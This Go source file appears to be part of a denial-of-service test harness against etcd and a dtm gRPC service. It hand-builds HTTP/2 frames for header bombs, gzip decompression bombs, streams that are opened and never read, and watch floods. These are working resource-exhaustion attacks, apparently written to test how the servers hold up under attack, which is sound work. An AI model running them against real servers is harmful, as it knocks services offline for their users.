package main

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"sync/atomic"

	pb "go.etcd.io/etcd/api/v3/etcdserverpb"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials"
	"google.golang.org/grpc/credentials/insecure"
)

// client returns a connection of the attacker's to the attacked door, by gRPC's own client. It ends with ctx.
func (t *target) client(ctx context.Context, more ...grpc.DialOption) (*grpc.ClientConn, error) {
	creds := insecure.NewCredentials()
	if t.tls != nil {
		creds = credentials.NewTLS(t.tls)
	}
	conn, err := grpc.NewClient("passthrough:///attacked", append(more, grpc.WithTransportCredentials(creds), grpc.WithDisableRetry(),
		grpc.WithDefaultCallOptions(grpc.MaxCallRecvMsgSize(1<<30)),
		grpc.WithContextDialer(func(ctx context.Context, _ string) (net.Conn, error) { return t.dial(ctx) }))...)
	if err == nil {
		context.AfterFunc(ctx, func() { conn.Close() })
	}
	return conn, err
}

// fill puts a megabyte into a key, without a user.
func (t *target) fill(ctx context.Context, keys int) error {
	conn, err := t.client(ctx)
	if err != nil {
		return err
	}
	for i := range keys {
		if _, err := pb.NewKVClient(conn).Put(ctx, &pb.PutRequest{Key: fmt.Appendf(nil, "large/%d", i), Value: make([]byte, 1<<20)}); err != nil {
			return err
		}
	}
	return nil
}

// untakenJSON asks for large answers over HTTP/1.1 and takes none.
func untakenJSON(ctx context.Context, t *target) (string, error) {
	if err := t.fill(ctx, 8); err != nil {
		return "", err
	}
	body := fmt.Sprintf(`{"key":%q,"range_end":%q}`, base64.StdEncoding.EncodeToString([]byte("large/")), base64.StdEncoding.EncodeToString([]byte("large0")))
	return hold(400, func(*target) ([]string, []byte) {
		return nil, fmt.Appendf(nil, "POST /v3/kv/range HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: %d\r\n\r\n%s", len(body), body)
	})(ctx, t)
}

// untakenRanges asks for large answers over gRPC on connections that are never read.
func untakenRanges(ctx context.Context, t *target) (string, error) {
	if err := t.fill(ctx, 8); err != nil {
		return "", err
	}
	message := append([]byte("\x0a\x06large/"), "\x12\x06large0"...)
	return hold(200, func(*target) ([]string, []byte) {
		b := preface(10 << 20)
		for stream := uint32(1); stream < 20; stream += 2 {
			b = appendHeaders(b, stream, callHeaders("/etcdserverpb.KV/Range"))
			b = appendData(b, stream, message, true)
		}
		return []string{"h2"}, b
	})(ctx, t)
}

// openCalls opens calls that never send their message, as many as the server takes.
func openCalls(ctx context.Context, t *target) (string, error) {
	head := callHeaders("/etcdserverpb.KV/Put")
	return hold(100, func(*target) ([]string, []byte) {
		b := preface(0)
		for stream := uint32(1); stream < 2*1000; stream += 2 {
			b = appendHeaders(b, stream, head)
		}
		return []string{"h2"}, b
	})(ctx, t)
}

// headerBombs opens calls whose headers are a byte each on the wire and two kilobytes in memory.
func headerBombs(ctx context.Context, t *target) (string, error) {
	service := "/etcdserverpb.KV/Put"
	if t.port == "saga-grpc" {
		service = "/dtmgimp.Dtm/Submit"
	}
	return hold(100, func(*target) ([]string, []byte) {
		b := preface(0)
		for stream := uint32(1); stream < 2*200; stream += 2 {
			head := callHeaders(service)
			if stream == 1 { // with a place in the table of headers, where the others find it
				head = append(append(head, 0x40, 3, 'x', '-', 'a', 0x7f, 0xd1, 0x0e), bytes.Repeat([]byte{'v'}, 2000)...)
			}
			b = appendHeaders(b, stream, append(head, bytes.Repeat([]byte{0xbe}, 6)...))
		}
		return []string{"h2"}, b
	})(ctx, t)
}

// watchedKeys opens watches of large keys, as many as the server takes.
func watchedKeys(ctx context.Context, t *target) (string, error) {
	var watches atomic.Int64
	each(ctx, 16, func() {
		life, cancel := context.WithCancel(ctx)
		defer cancel()
		conn, err := t.client(life)
		if err != nil {
			return
		}
		stream, err := pb.NewWatchClient(conn).Watch(life)
		for err == nil && life.Err() == nil {
			err = stream.Send(&pb.WatchRequest{RequestUnion: &pb.WatchRequest_CreateRequest{CreateRequest: &pb.WatchCreateRequest{Key: make([]byte, 100_000)}}})
			if err == nil {
				_, err = stream.Recv()
				watches.Add(1)
			}
		}
		rest(ctx)
	})
	return fmt.Sprintf("%d watches", watches.Load()), nil
}

// halfMessages sends half of a message of a megabyte on each of many calls.
func halfMessages(ctx context.Context, t *target) (string, error) {
	return hold(100, func(*target) ([]string, []byte) {
		b := preface(0)
		for stream := uint32(1); stream < 20; stream += 2 {
			b = appendHeaders(b, stream, callHeaders("/etcdserverpb.KV/Put"))
			b = appendData(b, stream, make([]byte, 1<<20), false)[:len(b)+9+16000]
		}
		return []string{"h2"}, b
	})(ctx, t)
}

// bomb is a message of so many zeros in gzip, once for all.
type bomb struct{ packed []byte }

func newBomb(size int) *bomb {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	_, _ = z.Write(make([]byte, size)) // never fails in memory
	_ = z.Close()
	return &bomb{b.Bytes()}
}

// Type implements grpc.Compressor.
func (*bomb) Type() string { return "gzip" }

// Do implements grpc.Compressor.
func (b *bomb) Do(w io.Writer, _ []byte) error {
	_, err := w.Write(b.packed)
	return err
}

// gzipBombs sends messages that are a thousand times larger when they are inflated: some as large as may be, some larger than any may.
func gzipBombs(ctx context.Context, t *target) (string, error) {
	var sent atomic.Int64
	for _, size := range []int{1_900_000, 100 << 20} {
		//lint:ignore SA1019 a registered compressor could not send the same bytes each time
		conn, err := t.client(ctx, grpc.WithCompressor(newBomb(size)))
		if err != nil {
			return "", err
		}
		for range 32 {
			go func() {
				for ctx.Err() == nil {
					_, err := pb.NewKVClient(conn).Put(ctx, &pb.PutRequest{Key: []byte("bomb")})
					if sent.Add(1); err != nil {
						rest(ctx)
					}
				}
			}()
		}
	}
	<-ctx.Done()
	return fmt.Sprintf("%d bombs", sent.Load()), nil
}

// preface begins a connection of HTTP/2 with a window of so many bytes for each answer; 0: the default.
func preface(window uint32) []byte {
	b := []byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
	if window == 0 {
		return append(b, 0, 0, 0, 4, 0, 0, 0, 0, 0)
	}
	b = append(b, 0, 0, 6, 4, 0, 0, 0, 0, 0, 0, 4)
	b = binary.BigEndian.AppendUint32(b, window)
	b = append(b, 0, 0, 4, 8, 0, 0, 0, 0, 0)
	return binary.BigEndian.AppendUint32(b, 1<<30)
}

// callHeaders is the headers of a gRPC call in HPACK.
func callHeaders(path string) []byte {
	literal := func(b []byte, name, value string) []byte {
		return append(append(append(append(b, 0, byte(len(name))), name...), byte(len(value))), value...)
	}
	b := []byte{0x83, 0x86} // :method POST, :scheme http
	b = literal(b, ":path", path)
	b = literal(b, ":authority", "attacked")
	b = literal(b, "content-type", "application/grpc")
	return literal(b, "te", "trailers")
}

func appendFrame(b []byte, kind, flags byte, stream uint32, payload []byte) []byte {
	n := len(payload)
	b = append(b, byte(n>>16), byte(n>>8), byte(n), kind, flags)
	return append(binary.BigEndian.AppendUint32(b, stream), payload...)
}

// appendHeaders appends a HEADERS frame that ends the headers.
func appendHeaders(b []byte, stream uint32, block []byte) []byte {
	return appendFrame(b, 1, 4, stream, block)
}

// appendData appends a message in DATA frames. last: the call's request ends with it.
func appendData(b []byte, stream uint32, message []byte, last bool) []byte {
	rest := append(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(message))), message...)
	for first := true; first || len(rest) > 0; first = false {
		n := min(len(rest), 16<<10)
		flags := byte(0)
		if last && n == len(rest) {
			flags = 1
		}
		b = appendFrame(b, 0, flags, stream, rest[:n])
		rest = rest[n:]
	}
	return b
}

// stolen reports whether there is a key "stolen".
func (t *target) stolen() (bool, error) {
	ctx, cancel := context.WithTimeout(context.Background(), patience)
	defer cancel()
	kv := &target{at: t.at, port: "kv", from: t.from, tls: t.tls}
	conn, err := kv.client(ctx)
	if err != nil {
		return false, err
	}
	res, err := pb.NewKVClient(conn).Range(ctx, &pb.RangeRequest{Key: []byte("stolen")})
	return err == nil && res.Count > 0, err
}

// watchesOverHTTP opens watches over HTTP/1.1 of a key that changes a hundred times a second, and reads no events.
func watchesOverHTTP(ctx context.Context, t *target) (string, error) {
	body := fmt.Sprintf(`{"create_request":{"key":%q}}`, base64.StdEncoding.EncodeToString([]byte("neighbour")))
	return hold(1000, func(*target) ([]string, []byte) {
		return nil, fmt.Appendf(nil, "POST /v3/watch HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: %d\r\n\r\n%s", len(body), body)
	})(ctx, t)
}

// untakenWatches opens watches through the JSON gateway of values that are written as fast as the server takes them, and reads no events.
func untakenWatches(ctx context.Context, t *target) (string, error) {
	conn, err := t.client(ctx)
	if err != nil {
		return "", err
	}
	go each(ctx, 4, func() {
		if _, err := pb.NewKVClient(conn).Put(ctx, &pb.PutRequest{Key: []byte("untaken"), Value: make([]byte, 10<<10)}); err != nil {
			rest(ctx)
		}
	})
	body := fmt.Sprintf(`{"create_request":{"key":%q}}`, base64.StdEncoding.EncodeToString([]byte("untaken")))
	return hold(1000, func(*target) ([]string, []byte) {
		return nil, fmt.Appendf(nil, "POST /v3/watch HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: %d\r\n\r\n%s", len(body), body)
	})(ctx, t)
}
